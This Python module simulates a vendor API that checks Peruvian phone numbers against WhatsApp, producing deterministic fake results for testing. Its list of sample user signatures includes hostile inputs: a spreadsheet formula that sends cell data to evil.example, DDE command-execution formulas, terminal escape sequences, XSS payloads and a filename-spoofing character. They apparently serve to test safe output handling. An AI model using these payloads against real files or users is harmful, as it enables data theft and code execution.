"""What the simulated vendor knows: pure functions of a number and a seed.

Nothing here depends on the process, the platform or the order of the calls, so that two runs can
be compared byte for byte and any output can be verified afterwards.
"""

from __future__ import annotations

import re
from datetime import date, timedelta
from hashlib import blake2b
from struct import Struct
from typing import Required, TypedDict

COUNTRY_CODE = "+51"

# Mobiles are 9 and eight digits; fixed lines are eight digits with their area code, and no area
# begins with 0, 2, 3 or 9. ASCII digits only: ``\d`` would let other scripts' digits through.
_NATIONAL = re.compile(r"9[0-9]{8}|[14-8][0-9]{7}")

_SHARE_ON_WHATSAPP = 0.6
_NEWEST_STATUS = date(2026, 10, 31)
_STATUS_DAYS = 3650

_PLAIN = (
    "Disponible",
    "Ocupado",
    "En el trabajo",
    "Solo llamadas urgentes",
    "Hey there! I am using WhatsApp.",
    "Ventas al por mayor y menor, delivery a todo Lima",
    "Dios es amor",
)
_SPANISH = (
    "¡Hola! Estoy usando WhatsApp.",
    "Mañana será otro día",
    "Corazón de niño, alma de león",
    "¿Qué más da? Año nuevo, vida nueva",
    "Panadería «El Ñandú», atención de 6 a. m. a 9 p. m.",
)
_EMOJI = ("🇵🇪 Perú 🎉", "👩‍👩‍👧‍👦 primero", "😴💤", "Pollería 🍗🔥 ☎️", "❤️")
_HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Ver oferta")',
    "=1+1",
    "+51900000000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\x1b[2J\x1b[31mrojo\x1b[0m",
    "\x1b]0;otro título\x07",
    "\x9b31mrojo",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert('x')>",
    "[bold red]marcado[/bold red]",
    "primera línea\nsegunda línea",
    "una\r\notra",
    'coma, "comillas"; punto y coma',
    "\u202etxt.exe",
    "   ",
)


class Result(TypedDict, total=False):
    """The ``result`` object of the vendor's answer, as it goes over the wire."""

    number: Required[str]
    """E.164: ``+51`` and the national number."""
    whatsapp: Required[str]
    """``yes`` or ``no``."""
    status_update: str
    """``YYYYMMDD``; sometimes empty or missing."""
    signature: str
    """What the user wrote, sometimes hostile on purpose; sometimes empty or missing."""
    business_user: str
    """``yes`` or ``no``; sometimes missing."""
    avatar: str
    """``yes`` or ``no``; sometimes missing."""


def truth(number: str | int, seed: int = 7) -> Result:
    """Return the whole answer of ``/check/whatsapp_advanced`` for a number.

    ``number`` is a national number (``987654321``, ``14567890``) or its E.164 form. About 60 % of
    the numbers are on WhatsApp. The basic endpoint answers ``number`` and ``whatsapp`` of the same.

    Raises ``ValueError`` if the vendor would refuse the number.
    """
    national = str(number).removeprefix(COUNTRY_CODE)
    if not is_national(national):
        raise ValueError(
            f"{number!r} is not a Peruvian number: use 9 and eight digits, or a landline with its area code"
        )
    result = Result(number=COUNTRY_CODE + national, whatsapp="no")
    on_whatsapp, has_date, days, kind, pick, business, avatar, details = draws("person", seed, national)
    if on_whatsapp >= _SHARE_ON_WHATSAPP:
        # The vendor's page does not say whether the other fields come with a "no": do it all ways.
        if details < 1 / 3:
            result.update({"status_update": "", "signature": "", "business_user": "no", "avatar": "no"})
        elif details < 2 / 3:
            result.update({"business_user": "no", "avatar": "no"})
        return result
    result["whatsapp"] = "yes"
    if has_date < 0.8:
        result["status_update"] = f"{_NEWEST_STATUS - timedelta(days=int(days * _STATUS_DAYS)):%Y%m%d}"
    elif has_date < 0.9:
        result["status_update"] = ""
    signature = _signature(kind, pick)
    if signature is not None:
        result["signature"] = signature
    if details < 0.95:
        result["business_user"] = "yes" if business < 0.2 else "no"
        result["avatar"] = "yes" if avatar < 0.7 else "no"
    return result


def request_id(number: str | int, seed: int = 7) -> str:
    """Return the ``request_id`` of the OK answer for a national or E.164 number.

    The vendor's is unique per request; the sandbox's is a pure function of number and seed, so that
    the outputs of two runs (one killed and resumed, one undisturbed) can be compared byte for byte.
    Replies other than OK carry a new id each.
    """
    national = str(number).removeprefix(COUNTRY_CODE)
    return f"TID{blake2b(f'request:{seed}:{national}'.encode(), digest_size=16).hexdigest()}"


def is_national(text: str) -> bool:
    """Whether the vendor takes this as a Peru number without country code."""
    return _NATIONAL.fullmatch(text) is not None


def pending_seconds(national: str, seed: int, share: float, seconds: float) -> float:
    """Return for how long the vendor answers PENDING for a number: 0 if it answers at once.

    ``share`` of the numbers are pending, each for 0.8 to 1.2 times ``seconds``.
    """
    chosen, jitter, *_ = draws("pending", seed, national)
    return seconds * (0.8 + 0.4 * jitter) if chosen < share else 0.0


_EIGHT_WORDS = Struct("<8Q").unpack


def draws(purpose: str, seed: int, of: str) -> tuple[float, ...]:
    """Return eight numbers in [0, 1) that depend on nothing but the arguments."""
    digest = blake2b(f"{purpose}:{seed}:{of}".encode()).digest()
    # 53 bits, so that no rounding can bring a draw up to 1.
    return tuple((word >> 11) * 2.0**-53 for word in _EIGHT_WORDS(digest))


def _signature(kind: float, pick: float) -> str | None:
    """Choose a signature, or None where the field is missing."""
    if kind < 0.1:
        return None
    if kind < 0.2:
        return ""
    phrases = _PLAIN if kind < 0.5 else _SPANISH if kind < 0.7 else _EMOJI if kind < 0.85 else _HOSTILE
    return phrases[int(pick * len(phrases))]
